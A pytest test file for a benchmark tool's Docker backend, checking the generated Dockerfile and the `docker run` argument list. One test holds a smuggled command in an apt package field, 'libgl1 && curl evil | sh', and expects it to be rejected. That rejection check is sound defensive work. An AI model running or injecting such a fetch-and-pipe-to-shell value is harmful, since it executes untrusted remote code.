"""The Docker backend without a Docker engine: the generated Dockerfile and the `docker run` argv."""

from __future__ import annotations

import json
import os
import re

import pytest
from envs_helpers import make_toy_package, toy_spec

from reconbench.methods.base import MethodSpec
from reconbench.upstream.envs import (
    DockerBackend,
    Environment,
    EnvironmentBuildError,
    EnvironmentMissing,
    dockerfile,
    recipe_hash,
)
from reconbench.upstream.envs.docker import base_image, image_tag

TRIPOSR = "d26e33181947bbbc4c6fc0f5734e1ec6c080956e"
PLUGIN = "8c2ab7b3ee4bd35253dd6ea864f1cb9f80505ada"


def upstream_spec(**environment) -> MethodSpec:
    env = {
        "python": "3.10",
        "cuda": "12.1",
        "packages": [
            ["torch==2.1.0"],
            "-r {repo}/requirements.txt",
            "git+https://github.com/tatsy/torchmcubes.git@3aef8afa5f21b113afc4f4ea148baee850cbd472",
        ],
        "pip_args": ["--extra-index-url", "https://download.pytorch.org/whl/cu121"],
        "build": [
            ["{python}", "-m", "pip", "install", "./diff-gaussian-rasterization"],
            {"argv": ["{python}", "setup.py", "build_ext"], "cwd": "ext"},
        ],
        "apt": ["libgl1", "libglib2.0-0"],
        "env": {"FORCE_CUDA": "1", "WEIGHTS": "{repo}/ckpt", "ODD": 'a$b"c'},
    }
    env.update(environment)
    return MethodSpec.from_dict(
        {
            "name": "TripoSR",
            "paradigm": "feed-forward",
            "representation": "mesh",
            "description": "test spec",
            "steps": [{"stage": "generation", "argv": ["{python}", "run.py", "{input}"]}],
            "output": {"path": "*/mesh.obj"},
            "upstream": {
                "repo": "https://github.com/VAST-AI-Research/TripoSR",
                "commit": TRIPOSR,
                "extra": [
                    {
                        "repo": "https://github.com/DSaurus/threestudio-3dgs",
                        "commit": PLUGIN,
                        "dest": "custom/threestudio-3dgs",
                    }
                ],
            },
            "environment": env,
        }
    )


def run_lines(text: str) -> list[list[str]]:
    """The exec-form RUN instructions, parsed."""
    return [json.loads(line[4:]) for line in text.splitlines() if line.startswith("RUN [")]


def test_dockerfile_from_the_recipe():
    spec = upstream_spec()
    text = dockerfile(spec)
    lines = text.splitlines()
    assert lines[2] == "FROM nvidia/cuda:12.1.1-cudnn8-devel-ubuntu22.04"
    runs = run_lines(text)
    # Python of the recipe, in a venv first on PATH.
    assert "python3.10 python3.10-venv python3.10-dev" in text and "libgl1 libglib2.0-0" in text
    assert [
        "python3.10",
        "-m",
        "venv",
        "/opt/venv",
    ] in runs and "ENV VIRTUAL_ENV=/opt/venv PATH=/opt/venv/bin:$PATH" in lines
    # Pinned commits: main checkout and the extra repository into its dest.
    assert ["git", "clone", "https://github.com/VAST-AI-Research/TripoSR", "/opt/upstream"] in runs
    assert ["git", "-C", "/opt/upstream", "-c", "advice.detachedHead=false", "checkout", TRIPOSR] in runs
    assert [
        "git",
        "clone",
        "https://github.com/DSaurus/threestudio-3dgs",
        "/opt/upstream/custom/threestudio-3dgs",
    ] in runs
    assert [
        "git",
        "-C",
        "/opt/upstream/custom/threestudio-3dgs",
        "-c",
        "advice.detachedHead=false",
        "checkout",
        PLUGIN,
    ] in runs
    # Packages in order, one pip call per group, placeholders substituted, pip_args on each.
    pip = [r for r in runs if r[1:4] == ["-m", "pip", "install"] and "--extra-index-url" in r]
    # torch 2.1: setuptools < 70 before anything else (its cpp_extension needs pkg_resources; audit X1).
    assert pip == [
        [
            "/opt/venv/bin/python",
            "-m",
            "pip",
            "install",
            "--extra-index-url",
            "https://download.pytorch.org/whl/cu121",
            "setuptools<70",
            "wheel",
        ],
        [
            "/opt/venv/bin/python",
            "-m",
            "pip",
            "install",
            "--extra-index-url",
            "https://download.pytorch.org/whl/cu121",
            "torch==2.1.0",
        ],
        [
            "/opt/venv/bin/python",
            "-m",
            "pip",
            "install",
            "--extra-index-url",
            "https://download.pytorch.org/whl/cu121",
            "-r",
            "/opt/upstream/requirements.txt",
            "git+https://github.com/tatsy/torchmcubes.git@3aef8afa5f21b113afc4f4ea148baee850cbd472",
        ],
    ]
    # Build steps in the checkout (or their own sub-folder), after the packages.
    assert ["/opt/venv/bin/python", "-m", "pip", "install", "./diff-gaussian-rasterization"] in runs
    i = lines.index('RUN ["/opt/venv/bin/python", "setup.py", "build_ext"]')
    assert lines[i - 1] == "WORKDIR /opt/upstream/ext" and lines[i + 1] == "WORKDIR /opt/upstream"
    assert runs.index(pip[-1]) < runs.index(
        ["/opt/venv/bin/python", "-m", "pip", "install", "./diff-gaussian-rasterization"]
    )
    assert lines.index("WORKDIR /opt/upstream") < lines.index(
        'RUN ["/opt/venv/bin/python", "-m", "pip", "install", "./diff-gaussian-rasterization"]'
    )
    # Recipe env (before the builds, so FORCE_CUDA applies) and an arch list for CUDA extensions built without a GPU.
    assert (
        'ENV FORCE_CUDA="1"' in lines and 'ENV WEIGHTS="/opt/upstream/ckpt"' in lines and 'ENV ODD="a\\$b\\"c"' in lines
    )
    assert any(line.startswith('ENV TORCH_CUDA_ARCH_LIST="') for line in lines)
    assert lines.index('ENV FORCE_CUDA="1"') < lines.index(
        'RUN ["/opt/venv/bin/python", "-m", "pip", "install", "./diff-gaussian-rasterization"]'
    )
    assert recipe_hash(spec.name, spec.recipe, "docker") in text
    assert dockerfile(spec) == text  # deterministic


def test_other_python_versions_come_from_deadsnakes_and_cuda_tags():
    text = dockerfile(upstream_spec(python="3.11", cuda="11.8"))
    assert (
        "ppa:deadsnakes/ppa" in text
        and "python3.11-venv" in text
        and '["python3.11", "-m", "venv", "/opt/venv"]' in text
    )
    assert "FROM nvidia/cuda:11.8.0-cudnn8-devel-ubuntu22.04" in text
    assert base_image(upstream_spec(cuda="12.4")) == "nvidia/cuda:12.4.1-cudnn-devel-ubuntu22.04"
    assert base_image(upstream_spec(cuda="12.1.0")) == "nvidia/cuda:12.1.0-cudnn8-devel-ubuntu22.04"
    assert base_image(upstream_spec(cuda=None)) == "ubuntu:22.04"
    assert "TORCH_CUDA_ARCH_LIST" not in dockerfile(upstream_spec(cuda=None))
    assert (
        base_image(upstream_spec(base_image="pytorch/pytorch:2.1.0-cuda12.1-cudnn8-devel"))
        == "pytorch/pytorch:2.1.0-cuda12.1-cudnn8-devel"
    )
    with pytest.raises(ValueError, match="apt"):
        dockerfile(upstream_spec(apt=["libgl1 && curl evil | sh"]))


def test_image_tag_and_env_dir():
    spec = upstream_spec()
    h = recipe_hash(spec.name, spec.recipe, "docker")
    assert image_tag(spec) == f"reconbench/triposr:{h[:12]}" and DockerBackend().image(spec) == image_tag(spec)
    assert DockerBackend().env_dir(spec).name == f"TripoSR-{h[:12]}"
    assert image_tag(upstream_spec(packages=["other"])) != image_tag(spec)


def test_local_repository_is_checked_out_on_the_host_and_copied(tmp_path):
    commit = make_toy_package(tmp_path / "up")
    spec = toy_spec("toy-docker", tmp_path / "up", commit, packages=["{repo}"])
    text = dockerfile(spec)
    assert "COPY repo /opt/upstream" in text and commit in text and 'git", "clone' not in text
    assert ["/opt/venv/bin/python", "-m", "pip", "install", "/opt/upstream"] in run_lines(text)


def test_build_without_docker_writes_the_dockerfile_and_says_so(tmp_path, monkeypatch):
    commit = make_toy_package(tmp_path / "up")
    spec = toy_spec("toy-docker", tmp_path / "up", commit)
    monkeypatch.setattr("reconbench.upstream.envs.docker.shutil.which", lambda name: None)
    backend = DockerBackend(tmp_path / "cache")
    assert not backend.is_built(spec)
    with pytest.raises(EnvironmentBuildError, match="`docker` is not on PATH") as info:
        backend.build(spec)
    folder = backend.env_dir(spec)
    assert str(folder / "Dockerfile") in str(info.value) and str(backend.log_path(spec)) in str(info.value)
    assert (folder / "Dockerfile").read_text() == dockerfile(spec)
    assert (folder / "repo" / "data.txt").is_file()  # the build context holds the checkout
    assert not backend.is_built(spec)
    with pytest.raises(EnvironmentMissing, match="reconbench install toy-docker --backend docker"):
        backend.environment(spec)


def test_is_built_asks_docker(tmp_path, monkeypatch):
    spec = upstream_spec()
    calls = []

    class Done:
        returncode = 0

    monkeypatch.setattr("reconbench.upstream.envs.docker.shutil.which", lambda name: "/usr/bin/docker")
    monkeypatch.setattr("reconbench.upstream.envs.docker.run_quiet", lambda argv, timeout: calls.append(argv) or Done())
    monkeypatch.setenv("HF_HUB_CACHE", str(tmp_path / "hub"))
    monkeypatch.setenv("RECONBENCH_CACHE", str(tmp_path / "rb"))
    backend = DockerBackend(tmp_path)
    assert backend.is_built(spec) and calls[-1] == ["/usr/bin/docker", "image", "inspect", image_tag(spec)]
    env = backend.environment(spec)
    assert env.python == "python" and env.repo == "/opt/upstream" and env.image == image_tag(spec)
    assert env.env["FORCE_CUDA"] == "1" and env.env["WEIGHTS"] == "/opt/upstream/ckpt"
    assert env.env["HF_HUB_CACHE"] == str(tmp_path / "hub") and env.env["HF_HUB_OFFLINE"] == "1"
    assert str(tmp_path / "hub") in env.mounts


def test_wrap_builds_the_docker_run_argv(tmp_path, monkeypatch):
    monkeypatch.delenv("CUDA_VISIBLE_DEVICES", raising=False)
    hub = tmp_path / "hub"
    hub.mkdir()
    env = Environment(
        method="m",
        python="python",
        repo="/opt/upstream",
        env={"HF_HUB_OFFLINE": "1", "A": "b c"},
        backend="docker",
        image="reconbench/m:0123456789ab",
        mounts=(str(hub), str(tmp_path / "absent")),
    )
    work = str(tmp_path / "work")
    argv, cwd = env.wrap(
        ["python", "run.py", f"{work}/in.png"], cwd=work, mounts=(work, "/hooks"), gpu=True, env={"X": "1"}, name="job1"
    )
    assert cwd is None
    assert argv[:6] == ["docker", "run", "--rm", "--init", "--name", "job1"] and argv[6:8] == ["--gpus", "all"]
    assert argv[-4:] == ["reconbench/m:0123456789ab", "python", "run.py", f"{work}/in.png"]
    pairs = [argv[i + 1] for i, a in enumerate(argv) if a == "-v"]
    assert pairs == [f"{work}:{work}", "/hooks:/hooks", f"{hub}:{hub}"]  # own mounts that do not exist are left out
    assert argv[argv.index("-w") + 1] == work
    envs = [argv[i + 1] for i, a in enumerate(argv) if a == "-e"]
    assert "HF_HUB_OFFLINE=1" in envs and "A=b c" in envs and "X=1" in envs
    assert "--user" in argv and re.fullmatch(r"\d+:\d+", argv[argv.index("--user") + 1])
    # The GPUs an executor gave this worker, not all of them.
    monkeypatch.setenv("CUDA_VISIBLE_DEVICES", "2,3")
    argv, _ = env.wrap(["python", "-V"], cwd=work, gpu=True)
    assert argv[argv.index("--gpus") + 1] == '"device=2,3"'
    # No GPU asked: no --gpus.
    argv, _ = env.wrap(["python", "-V"], cwd=work)
    assert "--gpus" not in argv and argv[argv.index("-w") + 1] == work


def test_venv_wrap_is_the_identity():
    env = Environment(method="m", python="/v/bin/python", repo="/co", env={"K": "V"})
    assert env.wrap(["/v/bin/python", "run.py"], cwd="/work", mounts=("/work",), gpu=True) == (
        ["/v/bin/python", "run.py"],
        "/work",
    )
    assert os.sep == "/"  # the venv layout above assumes POSIX paths


def test_non_headless_opencv_brings_the_gl_libraries():
    """opencv-python loads libGL.so.1 and glib at import; the CUDA base image has neither (audit X2)."""
    gui = dockerfile(upstream_spec(apt=[], packages=["opencv-python<4.9", "numpy"]))
    assert "libgl1" in gui and "libglib2.0-0" in gui
    headless = dockerfile(upstream_spec(apt=[], packages=["opencv-python-headless==4.9.0.80"]))
    assert "libgl1" not in headless and "libglib2.0-0" not in headless
